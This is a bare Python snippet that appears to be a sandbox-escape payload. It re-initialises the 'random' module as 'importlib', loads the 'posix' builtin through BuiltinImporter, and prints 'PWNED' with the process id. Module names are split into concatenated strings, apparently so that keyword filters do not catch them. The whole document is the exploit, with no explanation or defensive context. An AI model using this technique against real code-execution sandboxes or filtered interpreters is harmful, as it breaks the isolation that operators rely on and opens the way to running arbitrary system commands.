import contextlib, random
with contextlib.ExitStack() as st:
    st.callback(type(random).__init__, random, "import" + "lib")
from random import machinery
class S:
    name = "pos" + "ix"
print("PW" + "NED", machinery.BuiltinImporter.create_module(S()).getpid())
